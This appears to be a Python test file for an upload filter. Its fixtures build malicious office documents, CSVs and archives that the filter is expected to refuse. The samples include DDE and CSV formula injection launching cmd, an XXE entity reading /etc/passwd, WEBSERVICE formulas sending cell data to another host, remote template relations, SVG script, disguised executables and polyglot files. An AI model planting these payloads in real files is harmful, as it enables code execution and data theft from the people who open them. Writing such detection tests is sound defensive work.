"""Packages that hide what they do behind capitals, other names, relations, formulas and odd archives."""

import io
import struct
import zipfile

from tests.factories.uploads import PDF, archive, office, picture

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OPEN = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500
FIELD = f'<?xml version="1.0"?><w:document {W}><w:instrText> DDEAUTO cmd "/k calc"</w:instrText></w:document>'
ENTITY = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
ADD_IN = "webextensiontaskpanes"


def related(kind, target, mode="External", name="word/_rels/document.xml.rels", namespace=OPEN):
    """A part that leads to `target` by a relation of that kind."""
    how = f' TargetMode="{mode}"' if mode else ""
    return {
        name: f'<Relationships><Relationship Id="r1" Type="{namespace}/{kind}" Target="{target}"{how}/>'
        "</Relationships>"
    }


def types(kind):
    return f'<Types><Default Extension="bin" ContentType="application/vnd.ms-{kind}"/></Types>'


def sheet(formula):
    return office("xl", **{"xl/worksheets/sheet1.xml": f"<s><row><c><f>{formula}</f></c></row></s>"})


def opened(kind, content, part="content.xml"):
    names = 'xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:x="x"'
    return archive(
        mimetype=f"application/vnd.oasis.opendocument.{kind}", **{part: f"<o:d {names}>{content}</o:d>"}
    )


def packed(method):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("word/document.xml", "<x/>" + " " * 1000)
    return target.getvalue()


def stored_first(inner):
    """A package whose first part is a whole file of another kind, as it is."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as package:
        package.writestr("a", inner)
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("word/document.xml", "<x/>")
    return target.getvalue()


def long_end(count):
    """A package with the longer end of a directory, which promises `count` parts."""
    content = office("word")
    place = content.rfind(b"PK\x05\x06")
    size, start = struct.unpack("<II", content[place + 12 : place + 20])
    end = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, start)
    where = struct.pack("<4sIQI", b"PK\x06\x07", 0, place, 1)
    short = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, size, start, 0)
    return content[:place] + end + where + short


LOCKED = (
    "<m:manifest xmlns:m='m'><m:file-entry><m:encryption-data/></m:file-entry></m:manifest>",
    bytes(range(256)),
)
ELSEWHERE, MACROS, DDE = "外部模板", "有宏", "DDE"

# The least by which Windows knows a program: two letters, and where its own header stands.
PROGRAM = b"MZ" + b"\x00" * 58 + struct.pack("<L", 64) + b"PE\x00\x00" + b"\x00" * 60

HOSTILE = {
    # Names that only some programs understand.
    "relations in capitals": (
        "a.docx",
        office("word", **related("attachedTemplate", "http://x/t", name="word/_rels/settings.xml.RELS")),
        ELSEWHERE,
    ),
    "a header in capitals": ("a.docx", office("word", **{"WORD/Header1.XML": FIELD}), DDE),
    "the text under another name": ("a.docx", office("word", **{"word/main.dat": FIELD}), DDE),
    "the text in another folder": ("a.docx", office("word", **{"text/main.xml": FIELD}), DDE),
    "a definition under another name": ("a.docx", office("word", **{"word/main.dat": ENTITY}), "外部实体"),
    "a definition in wide letters under another name": (
        "a.docx",
        office("word", **{"word/main.dat": ENTITY.encode("utf-16")}),
        "外部实体",
    ),
    "a program with a dot behind": ("a.docx", office("word", **{"word/run.exe.": "MZ"}), r"run\.exe"),
    "a program with a letter in numbers": ("a.docx", office("word", **{"word/run.e%78e": "MZ"}), r"run\.exe"),
    "a program called a picture": (
        "a.docx",
        office("word", **{"word/media/image1.png": PROGRAM}),
        r"夹着程序或控件（image1\.png）",
    ),
    "a program of linux called a picture": (
        "a.docx",
        office("word", **{"word/media/image1.png": b"\x7fELF\x02\x01"}),
        r"夹着程序或控件（image1\.png）",
    ),
    "a drawing that runs": (
        "a.docx",
        office("word", **{"word/media/image1.svg": '<svg xmlns="x"><rect onload="alert(1)"/></svg>'}),
        r"夹着程序或控件（image1\.svg）",
    ),
    "a zero in a name": (
        "a.docx",
        office("word").replace(b"word/document.xml", b"word/docume\x00t.xml"),
        "指向别处",
    ),
    "a name that runs backwards": ("a.docx", office("word", **{"word/\u202egnp.exe": "MZ"}), "指向别处"),
    # Relations.
    "a kind that nobody knows": (
        "a.pptx",
        office("ppt", **related("slideUpdateUrl", "http://x/")),
        ELSEWHERE,
    ),
    "a style sheet from elsewhere": (
        "a.docx",
        office("word", **related("transform", "http://x/")),
        ELSEWHERE,
    ),
    "an address that calls itself a part": (
        "a.docx",
        office("word", **related("attachedTemplate", "http://x/t.dotm", mode="")),
        ELSEWHERE,
    ),
    "a share in the network": ("a.docx", office("word", **related("frame", "\\\\x\\y", mode="")), ELSEWHERE),
    "an add-in": (
        "a.docx",
        office("word", **related(ADD_IN, "word/a.xml", mode="", name="_rels/.rels", namespace=MICROSOFT)),
        "加载项",
    ),
    "a page as a piece of the text": (
        "a.docx",
        office("word", **related("aFChunk", "piece.htm", mode=""), **{"word/piece.htm": "<script/>"}),
        "片段",
    ),
    "queries under another name": (
        "a.xlsx",
        office("xl", **related("connections", "c.xml", mode="")),
        ELSEWHERE,
    ),
    "old macros under another name": (
        "a.xlsx",
        office("xl", **related("xlMacrosheet", "worksheets/a.xml", mode="", namespace=MICROSOFT)),
        MACROS,
    ),
    "a control by its relation": (
        "a.docx",
        office("word", **related("control", "controls/a.bin", mode="")),
        r"控件（a\.bin）",
    ),
    "old macros by their kind": (
        "a.xlsx",
        archive(**{"[Content_Types].xml": types("excel.macrosheet+xml"), "xl/a": "x"}),
        MACROS,
    ),
    "macros by their kind": (
        "a.docx",
        archive(**{"[Content_Types].xml": types("office.vbaProject"), "word/a": "x"}),
        MACROS,
    ),
    "an address in an object": (
        "a.docx",
        office("word", **{"word/embeddings/a.bin": OLE + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")}),
        ELSEWHERE,
    ),
    # Formulas and actions.
    "a formula that tells another host": ("a.xlsx", sheet('WEBSERVICE("http://x/"&amp;A1)'), "WEBSERVICE"),
    "a formula with a picture elsewhere": ("a.xlsx", sheet('_xlfn.IMAGE("http://x/a.png")'), "IMAGE"),
    "a formula that starts a program": ("a.xlsx", sheet("cmd|'/c calc'!A0"), DDE),
    "the same in numbers": ("a.xlsx", sheet("cmd&#124;'/c calc'!A0"), DDE),
    "a name that starts a program": (
        "a.xlsx",
        office("xl", **{"xl/workbook.xml": '<w><definedName>EXEC("calc")</definedName></w>'}),
        DDE,
    ),
    "a formula in letters of two bytes": (
        "a.xlsx",
        office("xl", **{"xl/worksheets/a.xml": '<s><f>RTD("a",,"b")</f></s>'.encode("utf-16")}),
        DDE,
    ),
    "a program below the pointer": (
        "a.pptx",
        office("ppt", **{"ppt/slides/slide1.xml": '<s><hlinkHover action="ppaction://program"/></s>'}),
        DDE,
    ),
    "a macro below the pointer": (
        "a.pptx",
        office("ppt", **{"ppt/slides/slide1.xml": '<s><hlinkHover action="ppaction://macro?name=a"/></s>'}),
        MACROS,
    ),
    "an open formula that starts a program": (
        "a.ods",
        opened("spreadsheet", '<o:c o:formula="of:=DDE(&quot;cmd&quot;;&quot;x&quot;;&quot;y&quot;)"/>'),
        DDE,
    ),
    "an open script": ("a.odt", opened("text", "<o:scripts><o:script>x</o:script></o:scripts>"), MACROS),
    "an open text that loads another": (
        "a.odt",
        opened("text", '<o:auto-reload x:href="http://x/"/>', "meta.xml"),
        ELSEWHERE,
    ),
    "open letters from elsewhere": (
        "a.odt",
        opened("text", '<o:font-face-uri x:href="http://x/"/>', "styles.xml"),
        ELSEWHERE,
    ),
    "an open range from elsewhere": (
        "a.ods",
        opened("spreadsheet", '<o:cell-range-source x:href="http://x/a.csv"/>'),
        ELSEWHERE,
    ),
    # Archives that are odd, or something else as well.
    "a password on an open text": (
        "a.odt",
        archive(
            mimetype="application/vnd.oasis.opendocument.text",
            **{"content.xml": LOCKED[1], "META-INF/manifest.xml": LOCKED[0]},
        ),
        "密码",
    ),
    "a password on a text": ("a.docx", OLE + "EncryptedPackage".encode("utf-16-le"), "取消密码"),
    "old word of another house": ("a.wps", OLE, "旧版 Office 或 WPS"),
    "packed as archives of programmers are": ("a.docx", packed(zipfile.ZIP_LZMA), "压缩方法"),
    "packed as older ones are": ("a.docx", packed(zipfile.ZIP_BZIP2), "压缩方法"),
    "an end that promises a billion parts": ("a.docx", long_end(2**40), "目录和内容对不上"),
    "a pdf before the text": ("a.docx", stored_first(PDF), "同时是两种文件"),
    "a text behind a picture": ("a.jpg", picture() + office("word"), "藏着别的文件"),
    "a text behind a program": ("a.docx", b"MZ" + b"\x00" * 200 + office("word"), "内容却是程序"),
    "a text behind a webp": ("a.webp", picture("WEBP") + office("word"), "藏着别的文件"),
    "a text behind an avif": ("a.avif", picture("AVIF") + office("word"), "藏着别的文件"),
    "a text behind a heic": ("a.heic", picture("HEIF") + office("word"), "藏着别的文件"),
    "an archive behind a gif": ("a.gif", picture("GIF") + archive(x="y"), "藏着别的文件"),
    # Tables of text.
    "a program in a cell of text": ("a.csv", "姓名\n=cmd|'/C calc'!A0\n".encode(), DDE),
    "a program in a wide cell of text": ("a.csv", "姓名,＋cmd|'/C calc'!A0\n".encode("gb18030"), DDE),
    "a cell that tells another host": ("a.csv", b'a,"=1+WEBSERVICE(""http://x/""&A1)"\n', "WEBSERVICE"),
    "an old table with a program": ("a.csv", b"ID;P\nC;X1;Y1;EEXEC(1)\nE\n", "ID;"),
    "a pdf called text": ("a.txt", PDF, "内容却是PDF"),
    "a pdf called table": ("a.csv", PDF, "内容却是PDF"),
    "letters of four bytes": ("a.txt", "停水通知".encode("utf-32"), "编码"),
    "letters of two bytes without a mark": ("a.txt", "2026 notice".encode("utf-16-le"), "编码"),
    "letters of another country": ("a.csv", b"\xff\xfd caf\xe9 \xff", "编码"),
}
HARMLESS = {
    "the longer end of an honest program": ("a.docx", long_end(2)),
    "a price with a bar": ("a.csv", "品名|价格\n-5,+3,@甲|乙\n=SUM(A1:A3)\n".encode()),
    "a sheet that speaks of programs": (
        "a.xlsx",
        office("xl", **{"xl/sharedStrings.xml": "<s><t>DDE|IMAGE(1) &#10; call me</t></s>"}),
    ),
    "a formula with a bar between quotes": ("a.xlsx", sheet('A1&amp;"|"&amp;Sheet2!B1')),
    "pictures in cells, as WPS keeps them": ("a.xlsx", sheet('_xlfn.DISPIMG("ID_1",1)')),
    "a drawing with a definition": (
        "a.docx",
        office("word", **{"word/media/a.svg": '<?xml version="1.0"?><!DOCTYPE svg><svg/>'}),
    ),
    "properties that are not whole": ("a.docx", office("word", **{"docProps/custom.xml": "<a>"})),
}


def test_what_hides_in_a_package_is_found_and_nothing_stays(refuse_each):
    refuse_each(HOSTILE)


def test_what_honest_packages_have_is_taken(gate, subtests):
    for label, (name, content) in HARMLESS.items():
        with subtests.test(label):
            assert gate(name, content).name == name
